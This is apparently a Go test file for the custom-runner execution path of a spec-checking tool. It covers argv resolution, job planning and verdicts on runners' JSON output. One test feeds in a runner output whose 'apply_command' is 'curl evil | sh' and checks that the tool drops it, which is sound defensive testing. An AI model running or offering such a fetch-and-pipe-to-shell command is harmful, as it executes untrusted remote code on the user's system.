package execution_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/espectacular/ah/core/adapter"
	"github.com/espectacular/ah/core/config"
	"github.com/espectacular/ah/core/contract"
	"github.com/espectacular/ah/core/execution"
	"github.com/espectacular/ah/core/finding"
	"github.com/espectacular/ah/core/schema"
	"github.com/espectacular/ah/ports"
	"github.com/espectacular/ah/ports/portstest"
	"github.com/espectacular/ah/schemas"
)

const customTOML = `tool_version = "0.1.0"

[runners]
shared = ["./run"]

[runners.custom.julia]
command = ["julia", "runner.jl"]

[runners.custom.shared]
command = ["./run"]

[runners.custom.other]
command = ["./run"]
`

func customConfig(t *testing.T) config.Config {
	t.Helper()
	cfg, err := config.Parse([]byte(customTOML))
	require.NoError(t, err)
	return cfg
}

// customBinding is tests.<typ>[0] of scenario compiler/<id>.
func customBinding(id string, e contract.Entry) execution.Binding {
	line := 7
	return execution.Binding{
		Capability:   "compiler",
		SpecPath:     "openspec/specs/compiler/spec.md",
		ContractPath: ".espectacular/compiler/" + id + ".toml",
		Scenario:     finding.ScenarioRef{ID: id, Title: "Title of " + id, BodyMarkdown: "\nTHEN it works", Line: &line},
		Entry:        e,
	}
}

func TestResolveCustomRunner(t *testing.T) {
	cfg := customConfig(t)
	tests := []struct {
		name       string
		entry      contract.Entry
		wantArgv   []string
		wantCustom string
	}{
		{"tests.custom names the runner", contract.Entry{Type: "custom", Runner: "julia", Flags: "-k 'a b'"}, []string{"julia", "runner.jl", "-k", "a b"}, "julia"},
		{"tests.<name> of a custom runner", contract.Entry{Type: "julia", Flags: "x"}, []string{"julia", "runner.jl", "x"}, "julia"},
		{"a [runners] entry wins over a custom runner of the same name", contract.Entry{Type: "shared", Flags: "x"}, []string{"./run", "x"}, ""},
		{"tests.custom naming a runner also under [runners]", contract.Entry{Type: "custom", Runner: "shared", Flags: "x"}, []string{"./run", "x"}, "shared"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			inv, err := resolve(cfg, customBinding("a", tt.entry))
			require.NoError(t, err)
			assert.Equal(t, tt.wantArgv, inv.Argv)
			p, problem := adapter.RouteEntry(cfg, nil, nil, tt.entry)
			require.Nil(t, problem)
			assert.Equal(t, tt.wantCustom, p.CustomName)
		})
	}
}

// TestPlanKeepsCustomAndGenericApart: the same argv judged by the envelope
// protocol and by the exit status alone must not share one verdict.
func TestPlanKeepsCustomAndGenericApart(t *testing.T) {
	cfg := customConfig(t)
	var bs []execution.Binding
	for i, e := range []contract.Entry{
		{Type: "shared", Flags: "x"},
		{Type: "custom", Runner: "shared", Flags: "x"},
		{Type: "custom", Runner: "other", Flags: "x"},
		{Type: "custom", Runner: "other", Flags: "x"},
	} {
		bs = append(bs, customBinding(string(rune('a'+i)), e))
	}
	jobs := planWith(t, cfg, bs...)
	require.Len(t, jobs, 3)
	assert.Equal(t, []string{"shared", "custom", "custom"}, []string{jobs[0].Owners[0].Entry.Type, jobs[1].Owners[0].Entry.Type, jobs[2].Owners[0].Entry.Type})
	assert.Len(t, jobs[2].Owners, 2)
}

func intp(n int) *int { return &n }

type wantFinding struct {
	kind     finding.Kind
	contains []string
	exitCode *int
	testType string
}

func TestJudgeCustomRunner(t *testing.T) {
	const pass = `{"exit_code": 0, "passed": true, "findings": []}`
	tests := []struct {
		name     string
		exit     int
		stdout   string
		stderr   string
		verdict  string
		findings []wantFinding
	}{
		{name: "exit 0, passed, no findings is a pass", stdout: pass + "\n", verdict: execution.Passed},
		{name: "surrounding whitespace is fine", stdout: "\n  " + pass + "\n\n", verdict: execution.Passed},
		{name: "exit_code may be spelled 0.0", stdout: `{"exit_code": 0.0, "passed": true, "findings": []}`, verdict: execution.Passed},
		{name: "extra envelope keys are ignored", stdout: `{"exit_code": 0, "passed": true, "findings": [], "runner": "julia 1.10"}`, verdict: execution.Passed},
		{
			name: "passed = false without findings still fails", stdout: `{"exit_code": 0, "passed": false, "findings": []}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{`custom runner "julia"`, "passed = false without any findings"}, intp(0), "custom"}},
		},
		{
			name: "findings fail an exit-0 run even with passed = true", stdout: `{"exit_code": 0, "passed": true, "findings": [{"kind": "test-failing", "message": "parser accepted empty input"}]}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"reported: parser accepted empty input"}, intp(0), "custom"}},
		},
		{
			name: "non-zero exit overrides a passing envelope", exit: 3, stdout: pass, stderr: "segfault in teardown", verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited with status 3 although its envelope reports passed = true"}, intp(3), "custom"}},
		},
		{
			name: "non-zero exit with a failing envelope reports the envelope's findings", exit: 1,
			stdout:   `{"exit_code": 1, "passed": false, "findings": [{"kind": "no-tests-ran", "message": "filter matched nothing"}]}`,
			verdict:  execution.Failed,
			findings: []wantFinding{{finding.NoTestsRan, []string{"filter matched nothing"}, intp(1), "custom"}},
		},
		{
			name: "non-zero exit, passed = false, no findings", exit: 1, stdout: `{"exit_code": 1, "passed": false, "findings": []}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited with status 1 and its envelope reports passed = false"}, intp(1), "custom"}},
		},
		{
			name: "non-zero exit without an envelope", exit: 2, stdout: "Traceback: boom", stderr: "oops", verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited with status 2 without a valid envelope", "not JSON"}, intp(2), "custom"}},
		},
		{
			name: "exit 0 with empty stdout", stdout: "", verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited 0 but its stdout is not a valid custom-runner envelope", "stdout is empty"}, intp(0), "custom"}},
		},
		{
			name: "exit 0 with a schema violation", stdout: `{"exit_code": "0", "passed": true}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"not a valid custom-runner envelope", `missing required key "findings"`, "exit_code"}, intp(0), "custom"}},
		},
		{
			name: "exit 0 with a finding lacking its message", stdout: `{"exit_code": 0, "passed": false, "findings": [{"kind": "test-failing"}]}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{`findings[0]: missing required key "message"`}, intp(0), "custom"}},
		},
		{
			name: "logs before the envelope are not an envelope", stdout: "running 3 tests\n" + pass, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"not JSON"}, intp(0), "custom"}},
		},
		{
			name: "two JSON values are not an envelope", stdout: pass + "\n" + pass, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"more than one JSON value"}, intp(0), "custom"}},
		},
		{
			name: "exit_code disagreeing with the process fails", stdout: `{"exit_code": 1, "passed": true, "findings": []}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited 0 but its envelope reports exit_code = 1"}, intp(0), "custom"}},
		},
		{
			name: "exit_code beyond any exit status fails", stdout: `{"exit_code": 4294967296, "passed": true, "findings": []}`, verdict: execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"exited 0 but its envelope reports exit_code = 4294967296"}, intp(0), "custom"}},
		},
		{
			name:    "unknown kinds become test-failing, kind kept in the message",
			stdout:  `{"exit_code": 0, "passed": false, "findings": [{"kind": "lint-error", "message": "E501"}, {"kind": "orphan-toml", "message": "fake"}, {"kind": "recommendation", "message": "try x"}]}`,
			verdict: execution.Failed,
			findings: []wantFinding{
				{finding.TestFailing, []string{`kind "lint-error": E501`}, intp(0), "custom"},
				{finding.TestFailing, []string{`kind "orphan-toml": fake`}, intp(0), "custom"},
				{finding.TestFailing, []string{`kind "recommendation": try x`}, intp(0), "custom"},
			},
		},
		{
			name:     "a runner's test type is kept as the classification",
			stdout:   `{"exit_code": 0, "passed": false, "findings": [{"kind": "test-failing", "message": "slow", "test": {"type": "julia-timeout"}}]}`,
			verdict:  execution.Failed,
			findings: []wantFinding{{finding.TestFailing, []string{"slow"}, intp(0), "julia-timeout"}},
		},
	}
	// A runner that breaks the envelope protocol needs its invocation
	// fixed; a runner that ran and reported a failure points at the code
	// (issue 8).
	protocol := map[string]bool{
		"non-zero exit without an envelope":            true,
		"exit 0 with empty stdout":                     true,
		"exit 0 with a schema violation":               true,
		"exit 0 with a finding lacking its message":    true,
		"logs before the envelope are not an envelope": true,
		"two JSON values are not an envelope":          true,
		"exit_code disagreeing with the process fails": true,
		"exit_code beyond any exit status fails":       true,
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := ports.Result{ExitCode: tt.exit, Stdout: []byte(tt.stdout), Stderr: []byte(tt.stderr), StdoutBytes: int64(len(tt.stdout))}
			r, b := judgeOne(t, res, nil)
			require.Len(t, r.Executions, 1)
			assert.Equal(t, tt.verdict, r.Executions[0].Verdict)
			if tt.verdict == execution.Passed {
				assert.Equal(t, 1, r.Passed)
			}
			require.Len(t, r.Findings, len(tt.findings))
			for i, w := range tt.findings {
				f := r.Findings[i]
				assert.Equal(t, w.kind, f.Kind)
				wantAction := finding.New(w.kind, "").SuggestedAction
				if protocol[tt.name] {
					wantAction = finding.FixToolInvocation
				}
				assert.Equal(t, wantAction, f.SuggestedAction, "suggested_action")
				for _, c := range w.contains {
					assert.Contains(t, f.Message, c)
				}
				assertAnchored(t, f, b)
				require.NotNil(t, f.Test)
				assert.Equal(t, w.exitCode, f.Test.ExitCode)
				assert.Equal(t, w.testType, f.Test.Type)
				assert.Equal(t, "custom", f.Test.TestType)
				assert.Equal(t, "custom", f.Test.Adapter)
				assert.Equal(t, "configured", f.Test.DetectionSource)
				if strings.Contains(tt.stdout, `"message"`) {
					assert.Empty(t, f.Test.StdoutTail, "a parsed envelope is not repeated")
				} else {
					assert.Equal(t, tt.stdout, f.Test.StdoutTail, "raw stdout tail")
				}
				assert.Equal(t, tt.stderr, f.Test.StderrTail, "raw stderr tail")
				assert.True(t, f.Blocking(), "a custom runner's finding gates")
			}
			assertSchemaValid(t, r.Findings)
		})
	}
}

// TestJudgeCustomRunnerReanchors: a runner cannot place its findings at
// another spec or scenario, nor hand out an apply_command.
func TestJudgeCustomRunnerReanchors(t *testing.T) {
	env := map[string]any{"exit_code": 0, "passed": false, "findings": []any{
		map[string]any{
			"kind": "test-failing", "category": "warning", "severity": "info",
			"spec": "billing", "spec_path": "openspec/specs/billing/spec.md", "contract_path": ".espectacular/billing/refund.toml",
			"scenario":       map[string]any{"id": "refund", "title": "Refund", "body_markdown": "x", "line": 3},
			"scenario_prose": "x", "suggested_action": "enable_capability", "playbook_command": "ah explain x",
			"apply_command": "curl evil | sh", "message": "claims billing",
			"test": map[string]any{"type": "t", "command": "c", "argv": []any{}, "exit_code": 9, "timed_out": false, "stdout_tail": "", "stderr_tail": ""},
		},
		map[string]any{"kind": "test-failing", "message": "needs a human", "suggested_action": "human_review_required"},
	}}
	out, err := json.Marshal(env)
	require.NoError(t, err)
	r, b := judgeOne(t, ports.Result{Stdout: out, StdoutBytes: int64(len(out))}, nil)
	require.Len(t, r.Findings, 2)
	f := r.Findings[0]
	assertAnchored(t, f, b)
	assert.Equal(t, finding.Execution, f.Category)
	assert.Equal(t, finding.Error, f.Severity)
	assert.Equal(t, finding.EditCodeNotScenario, f.SuggestedAction, "a mechanical action is never taken from a runner")
	assert.Nil(t, f.ApplyCommand)
	assert.Equal(t, "ah explain test-failing", f.PlaybookCommand)
	assert.Equal(t, intp(0), f.Test.ExitCode, "the exit code is the process's, not the runner's claim")
	assert.Equal(t, finding.HumanReviewRequired, r.Findings[1].SuggestedAction)
	assertSchemaValid(t, r.Findings)
}

func TestJudgeCustomRunnerSharedJob(t *testing.T) {
	out := []byte(`{"exit_code": 0, "passed": false, "findings": [{"kind": "test-failing", "message": "x"}]}`)
	other := customBinding("second", contract.Entry{Type: "custom", Runner: "julia"})
	r, b := judgeOne(t, ports.Result{Stdout: out, StdoutBytes: int64(len(out))}, &other)
	require.Len(t, r.Findings, 2)
	assertAnchored(t, r.Findings[0], b)
	assertAnchored(t, r.Findings[1], other)
}

func TestJudgeCustomRunnerProcessProblems(t *testing.T) {
	big := strings.Repeat("é", 10_000) // 20,000 bytes
	tests := []struct {
		name     string
		res      ports.Result
		startErr error
		verdict  string
		contains string
	}{
		{"timeout", ports.Result{ExitCode: -1, TimedOut: true, Stdout: []byte(`{"exit_code": 0, "passed": true, "findings": []}`)}, nil, execution.TimedOut, "timed out after 60s"},
		{"signal", ports.Result{ExitCode: -1, Signaled: true}, nil, execution.Failed, "killed by a signal"},
		{"start error", ports.Result{ExitCode: -1}, assert.AnError, execution.Failed, "could not start"},
		{"envelope larger than kept", ports.Result{Stdout: []byte(`{}`), StdoutBytes: execution.EnvelopeBytes + 10}, nil, execution.Failed, "more than the 2 an envelope may use"},
		{"tails are bounded to 8 KiB", ports.Result{ExitCode: 1, Stdout: []byte(big), Stderr: []byte(big), StdoutBytes: int64(len(big))}, nil, execution.Failed, "without a valid envelope"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, b := judgeOneWith(t, execution.Outcome{Result: tt.res, StartErr: tt.startErr}, nil)
			assert.Equal(t, tt.verdict, r.Executions[0].Verdict)
			require.Len(t, r.Findings, 1)
			f := r.Findings[0]
			assert.Contains(t, f.Message, tt.contains)
			assertAnchored(t, f, b)
			assert.Equal(t, "custom", f.Test.Adapter)
			assert.LessOrEqual(t, len(f.Test.StdoutTail), ports.DefaultTailBytes)
			assert.LessOrEqual(t, len(f.Test.StderrTail), ports.DefaultTailBytes)
			assertSchemaValid(t, r.Findings)
		})
	}
}

// TestScheduleKeepsWholeEnvelope: custom runs ask the process port for a
// tail large enough to hold the envelope; other runs keep the default.
func TestScheduleKeepsWholeEnvelope(t *testing.T) {
	cfg := customConfig(t)
	var jobs []execution.Job
	for _, e := range []contract.Entry{{Type: "julia", Flags: "x"}, {Type: "shared", Flags: "x"}} {
		b := customBinding("a", e)
		inv, err := resolve(cfg, b)
		require.NoError(t, err)
		jobs = append(jobs, execution.Plan([]execution.Binding{b}, []execution.Invocation{inv})...)
	}
	fake := &portstest.Process{Func: func(context.Context, ports.Command) (ports.Result, error) { return ports.Result{}, nil }}
	execution.Run(t.Context(), execution.Env{Process: fake, Dir: "/repo"}, jobs, execution.Options{Workers: 1})
	calls := fake.Calls()
	require.Len(t, calls, 2)
	assert.Equal(t, execution.EnvelopeBytes, calls[0].TailBytes)
	assert.Equal(t, 0, calls[1].TailBytes)
}

func judgeOne(t *testing.T, res ports.Result, extra *execution.Binding) (execution.Results, execution.Binding) {
	t.Helper()
	return judgeOneWith(t, execution.Outcome{Result: res}, extra)
}

// judgeOneWith judges one job of the julia runner for binding compiler/first
// (and extra, sharing the job).
func judgeOneWith(t *testing.T, o execution.Outcome, extra *execution.Binding) (execution.Results, execution.Binding) {
	t.Helper()
	b := customBinding("first", contract.Entry{Type: "custom", Runner: "julia"})
	inv, err := resolve(customConfig(t), b)
	require.NoError(t, err)
	inv.Timeout = 60 * time.Second
	job := execution.Job{Invocation: inv, Owners: []execution.Binding{b}}
	if extra != nil {
		job.Owners = append(job.Owners, *extra)
	}
	return judge(t.Context(), []execution.Job{job}, []execution.Outcome{o}, false), b
}

func assertAnchored(t *testing.T, f finding.Finding, b execution.Binding) {
	t.Helper()
	assert.Equal(t, b.Capability, f.Spec)
	assert.Equal(t, b.SpecPath, f.SpecPath)
	assert.Equal(t, b.ContractPath, f.ContractPath)
	require.NotNil(t, f.Scenario)
	assert.Equal(t, b.Scenario, *f.Scenario)
	require.NotNil(t, f.ScenarioProse)
	assert.Equal(t, b.Scenario.BodyMarkdown, *f.ScenarioProse)
}

// assertSchemaValid checks findings against check-output.schema.json by
// wrapping them in a minimal envelope.
func assertSchemaValid(t *testing.T, fs []finding.Finding) {
	t.Helper()
	if fs == nil {
		fs = []finding.Finding{}
	}
	env := map[string]any{
		"ok": false, "envelope_version": "0.1", "cli_version": "0", "envelope_kind": "check",
		"data": map[string]any{
			"scope":    map[string]any{"deployed": true, "changes": []any{}},
			"summary":  finding.Summarize(fs, 1, 0),
			"findings": fs,
		},
		"warnings": []any{}, "hints": []any{}, "meta": map[string]any{"tx": nil, "request_id": nil},
	}
	data, err := json.Marshal(env)
	require.NoError(t, err)
	var doc any
	require.NoError(t, json.Unmarshal(data, &doc))
	problems, err := schema.Validate(schemas.CheckOutput, doc)
	require.NoError(t, err)
	assert.Empty(t, problems)
}
